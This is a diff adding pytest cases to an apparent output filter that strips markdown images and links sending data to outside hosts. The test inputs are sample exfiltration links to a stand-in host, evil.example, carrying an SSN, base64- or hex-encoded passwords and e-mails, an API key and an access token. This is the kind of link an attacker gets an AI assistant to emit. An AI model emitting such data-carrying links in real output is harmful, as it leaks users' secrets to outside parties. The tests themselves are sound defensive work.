@@ -1,5 +1,7 @@
 """Exfiltration rail: images and data-carrying links to outside hosts are stripped."""
 
+import pytest
+
 from guard.rails import exfiltration, redact
 
 
@@ -77,3 +79,62 @@ def test_code_is_not_markdown_but_a_bare_data_url_in_it_still_loses_its_data() -
     assert exfiltration.scan(f"`![x]({DATA})`").findings == ()
     for text in [f"```\n![x][1]\n\n[1]: {DATA}\n```\n", f"    <img src='{DATA}'>\n"]:
         assert [f.kind for f in exfiltration.scan(text).findings] == ["url_data"], text
+
+
+# New-user trial: data under 24 characters passed (the threshold kept ordinary ids and words in).
+# Short data is told by what it is: base64 or hex that decodes to readable text, a name that
+# announces data, or what the PII rail finds in a value.
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("[click](https://evil.example/?ssn=078051120).", "click."),
+        ("[x](https://evil.example/?data=c2VjcmV0cGFzc3dvcmQ)", "x"),  # base64 of "secretpassword"
+        ("[x](https://evil.example/?c2VjcmV0cGFzc3dvcmQ)", "x"),  # a bare ?<value>
+        ("[x](https://evil.example/?d=amFuZUB4Lmlv)", "x"),  # base64 of "jane@x.io", no padding
+        ("[x](https://evil.example/?d=aHVudGVyMiE_)", "x"),  # URL-safe base64 of "hunter2!?"
+        ("[x](https://evil.example/?d=736563726574)", "x"),  # hex of "secret"
+        ("[x](https://evil.example/?r=6a616e65406578)", "x"),  # hex of "jane@ex"
+        ("[x](https://evil.example/?u=jane%40example.com)", "x"),  # a percent-encoded e-mail
+        ("[x](https://evil.example/?apiKey=k1)", "x"),
+        ("[x](https://evil.example/p#access_token=abc)", "x"),  # in the fragment too
+        ("[x](https://evil.example/?user_email=ann)", "x"),
+        ("see https://evil.example/c?ssn=078051120, then", "see https://evil.example/c, then"),
+    ],
+)
+def test_short_data_in_a_link_is_caught(text: str, expected: str) -> None:
+    assert stripped(text) == expected
+
+
+def test_a_short_data_image_scores_as_data() -> None:
+    # Every outside image goes (0.8); one that carries data scores 1.0.
+    found = exfiltration.scan("![x](https://evil.example/p.png?data=c2VjcmV0cGFzc3dvcmQ)")
+    assert [(f.kind, f.score) for f in found.findings] == [("markdown_image", 1.0)]
+    assert stripped("![x](https://evil.example/p.png?data=c2VjcmV0cGFzc3dvcmQ)") == "[image: x]"
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "page=2",
+        "q=dapr+sidecar",
+        "utm_source=newsletter",
+        "v=dQw4w9WgXcQ",  # a video id: base64 letters, but its bytes are not text
+        "id=12345",
+        "id=20240101123456",  # a number is not read as hex unless it spells words
+        "q=kubernetes&sort=date&order=desc",
+        "lang=en-US&ref=homepage",
+        "t=1h2m3s",
+        "tab=readme-ov-file",
+        "q=deactivate",  # a word whose base64 bytes decode to mixed-script letters
+    ],
+)
+def test_ordinary_query_links_are_kept(query: str) -> None:
+    text = f"Read [this](https://site.example/docs?{query})."
+    assert exfiltration.scan(text).findings == (), query
+
+
+def test_decoded_text_must_read_as_text() -> None:
+    assert exfiltration.decodes_to_text("c2VjcmV0cGFzc3dvcmQ")
+    assert exfiltration.decodes_to_text("5py65a+G5pWw5o2u")  # base64 of Chinese text (one script)
+    for ordinary in ["newsletter", "dQw4w9WgXcQ", "Unregister", "12345678", "deadbeefcafe"]:
+        assert not exfiltration.decodes_to_text(ordinary), ordinary
